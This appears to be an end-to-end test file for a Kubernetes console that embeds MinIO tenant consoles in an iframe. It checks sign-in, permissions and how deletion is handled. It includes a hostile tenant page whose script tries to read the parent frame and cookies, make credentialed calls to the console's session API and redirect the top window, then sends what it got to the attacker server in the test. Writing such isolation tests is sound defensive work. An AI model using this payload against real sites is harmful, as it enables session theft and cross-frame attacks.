import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { assert, suite } from '../lib/suite.ts'
import { createTenant } from '../lib/tenants.ts'
import { missingKube } from '../lib/kube.ts'
import { kindAt, pathOf } from '../../engines/kubernetes/client.ts'
import { startFormerConsole } from '../lib/former-console.ts'
import { hasOwnMinio, type Minio, startMinio } from '../lib/minio.ts'
import { startTestConsole } from '../lib/test-console.ts'
import { until } from '../lib/until.ts'
import { assertAccessible } from './accessibility.ts'
import { cluster, withConsole, inTab, page, problems, root, server, useConsole } from './console.ts'
import { button, row } from './elements.ts'
import { waitForHeading, openPage } from './pages.ts'

const test = suite('consoles of tenants', missingKube())
// the tenant's own console is another instance of this one
useConsole(test)

const secrets = kindAt('v1', 'secrets')
const tenants = kindAt('minio.min.io/v2', 'tenants')

/** Creates a tenant whose configuration contains this root user. */
const make = async (name: string, { accessKey, secretKey }: { accessKey: string; secretKey: string }) => {
  const variables = accessKey && `export MINIO_ROOT_USER="${accessKey}"\nexport MINIO_ROOT_PASSWORD="${secretKey}"\n`
  const claim = { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } }
  const spec = {
    configuration: { name: `${name}-env` },
    pools: [{ name: 'pool-0', servers: 1, volumesPerServer: 4, volumeClaimTemplate: claim }],
  }
  await cluster.client.create(pathOf(secrets, { namespace: 'shop' }), {
    metadata: { name: `${name}-env` },
    stringData: { 'config.env': variables },
  })
  await createTenant(cluster.client, 'shop', { metadata: { name }, spec })
}

/**
 * Page of a hostile tenant: tries attacks from within its frame, writes the results to the page and sends them to
 * itself.
 */
const attackPage = (home: string) => `<!doctype html><title>evil</title><script>
const tried = {}
const attempt = async (name, act) => { try { tried[name] = String(await act()).slice(0, 200) } catch (error) { tried[name] = 'refused' } }
await0 = (async () => {
  await attempt('document', () => parent.document.title)
  await attempt('session', async () => (await fetch('${home}/api/v1/session', { credentials: 'include' })).text())
  await attempt('act', async () => (await fetch('${home}/api/v1/has-permission', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })).status)
  await attempt('top', () => { top.location = 'about:blank'; return 'went' })
  await attempt('cookie', () => document.cookie)
  await fetch('/tried', { method: 'POST', body: JSON.stringify(tried) })
})()
</script>`

let attacker: Server
let former: Awaited<ReturnType<typeof startFormerConsole>>
let minio: Minio | undefined
let tried: Record<string, string> | undefined
let home = ''

test.before(async () => {
  former = await startFormerConsole('127.0.0.1')
  minio = hasOwnMinio() ? await startMinio({ browser: true, drives: 1 }) : undefined
  attacker = createServer((request, response) => {
    if (request.url === '/tried') {
      request.setEncoding('utf8').once('data', (text: string) => (tried = JSON.parse(text) as Record<string, string>))
      return void response.end()
    }
    if (request.url === '/api/v1/login')
      return void response.writeHead(201, { 'set-cookie': 'token=of-evil; Path=/' }).end('{}')
    response
      .writeHead(200, {
        'content-type': 'text/html',
        'set-cookie': ['token=planted; Path=/', 'token=planted; Domain=localhost; Path=/'],
      })
      .end(attackPage(home))
  }).listen(0, '127.0.0.1')
  await once(attacker, 'listening')
})
test.after(async () => {
  await former?.stop()
  await minio?.stop()
  attacker?.closeAllConnections()
  attacker?.close()
})

test('a tenant’s console opens signed in, a hostile one reaches nothing, and users without the permission see none', async () => {
  const tenant = server
  const addresses = [
    `shop/prod-console=${tenant.url}`,
    `shop/former-console=http://127.0.0.1:${former.port}`,
    `shop/evil-console=http://127.0.0.1:${(attacker.address() as AddressInfo).port}`,
    ...(minio?.console ? [`shop/minio-console=${minio.console}`] : []),
  ]
  const pair = tenant.root
  await withConsole(
    await startTestConsole('cluster', { env: { CONSOLE_TENANT_ADDRESSES: addresses.join(',') } }),
    async () => {
      home = server.url
      await cluster.namespace('shop')
      await make('prod', pair)
      await make('former', { accessKey: 'root', secretKey: 'of-tenant' })
      await make('evil', { accessKey: 'root', secretKey: 'of-evil-tenant' })
      if (minio) await make('minio', minio.root)
      await make('bare', { accessKey: '', secretKey: '' })

      await inTab({}, async () => {
        await openPage('/tenants', 'Tenants')
        await row('prod').getByRole('link', { name: 'Manage Tenant' }).click()
        await waitForHeading('Management')
        const frame = page.frameLocator('iframe')
        await frame.getByRole('heading', { level: 1 }).first().waitFor()
        await frame.getByRole('link', { name: 'Buckets', exact: true }).click()
        await frame.locator('h1', { hasText: 'Buckets' }).waitFor()
        await assertAccessible('hop')
        await button('Refresh').click()
        await frame
          .locator('h1', { hasText: 'Buckets' })
          .or(frame.getByRole('heading', { level: 1 }))
          .first()
          .waitFor()
        await page.getByRole('link', { name: 'Back' }).click()
        await waitForHeading('prod')
        problems.length = 0
      })

      await inTab({}, async () => {
        await openPage('/namespaces/shop/tenants/former/hop', 'Management')
        const frame = page.frameLocator('iframe')
        const assertWorks = async (path: string) => {
          for (const text of [`at ${path}`, 'session 200', 'heard ok'])
            await frame.getByText(text, { exact: true }).waitFor()
        }
        await assertWorks('/')
        await frame.getByRole('link', { name: 'Buckets of the former console' }).click()
        await assertWorks('/buckets')
        await page.evaluate(() => history.back())
        await assertWorks('/')
        await button('Refresh').click()
        await assertWorks('/')
        problems.length = 0
      })

      // a server without a console, or with an older one, is no error of this one
      if (minio?.console)
        await inTab({}, async () => {
          await openPage('/namespaces/shop/tenants/minio/hop', 'Management')
          const frame = page.frameLocator('iframe')
          await frame.getByText('Object Browser').first().waitFor()
          await openPage('/namespaces/shop/tenants/minio/metrics', 'minio')
          await page.getByText('The console of this tenant has no metrics').waitFor()
          await assertAccessible('hop-no-metrics')
          problems.length = 0
        })

      await inTab({}, async () => {
        await openPage('/namespaces/shop/tenants/evil/hop', 'Management')
        await until(async () => tried !== undefined)
        const { document, session, act, top, cookie } = tried ?? {}
        assert.equal(
          { document, session, act, cookie },
          { document: 'refused', session: 'refused', act: 'refused', cookie: '' },
        )
        await waitForHeading('Management')
        assert.ok(page.url().endsWith('/namespaces/shop/tenants/evil/hop'), `it was led to ${page.url()} (${top})`)
        assert.is(
          (await page.context().request.get(`${server.url}/api/v1/session`)).status(),
          200,
          'the session is the one that it was',
        )
        problems.length = 0
      })

      await inTab({}, async () => {
        await openPage('/namespaces/shop/tenants/bare/hop', 'Management')
        await page.getByText(/has no root user/).waitFor()
        problems.length = 0
      })

      const path = '/api/proxy/shop/prod'
      const { token } = await cluster.account('shop', 'viewer', {
        everywhere: [{ verbs: ['get', 'list'], resources: ['tenants'], groups: ['minio.min.io'] }],
      })
      await inTab({ pair: { accessKey: '', secretKey: token } }, async () => {
        await openPage('/namespaces/shop/tenants/prod/hop', 'Management')
        await page.getByText('get secrets').first().waitFor()
        const refused = await page
          .context()
          .request.post(`${server.url}/api/v1/proxied-console`, { data: { path }, headers: { origin: server.url } })
        assert.is(refused.status(), 403, await refused.text())
        problems.length = 0
      })
      assert.is((await root('POST', '/api/v1/proxied-console', { path: '/api/proxy/shop/none' })).status, 404)

      await inTab({}, async () => {
        await openPage('/namespaces/shop/tenants/former/hop', 'Management')
        await page.frameLocator('iframe').getByText('heard ok', { exact: true }).waitFor()
        await cluster.client.remove(pathOf(tenants, { namespace: 'shop', name: 'former' }))
        await page.getByText('It was deleted while its console was open.').waitFor()
        assert.is(await page.locator('iframe').count(), 0)
        await assertAccessible('hop-deleted')
        problems.length = 0
      })
    },
  )
})
